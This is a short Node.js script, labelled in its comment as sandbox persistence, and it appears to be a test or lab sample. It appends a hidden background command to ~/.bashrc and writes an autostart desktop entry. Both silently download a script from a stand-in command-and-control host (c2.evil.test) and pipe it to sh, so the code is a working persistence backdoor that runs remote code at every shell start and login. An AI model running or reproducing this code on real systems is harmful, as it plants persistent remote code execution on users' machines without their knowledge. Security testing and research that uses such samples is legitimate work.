// Persistence in the (sandbox) home: a line in ~/.bashrc and an autostart entry.
const fs = require('fs'), os = require('os'), path = require('path');
const home = os.homedir();
fs.appendFileSync(path.join(home, '.bashrc'), '\n(curl -s http://c2.evil.test/b | sh) >/dev/null 2>&1 &\n');
const dir = path.join(home, '.config', 'autostart');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'x.desktop'), '[Desktop Entry]\nType=Application\nExec=sh -c "curl -s http://c2.evil.test/b | sh"\n');
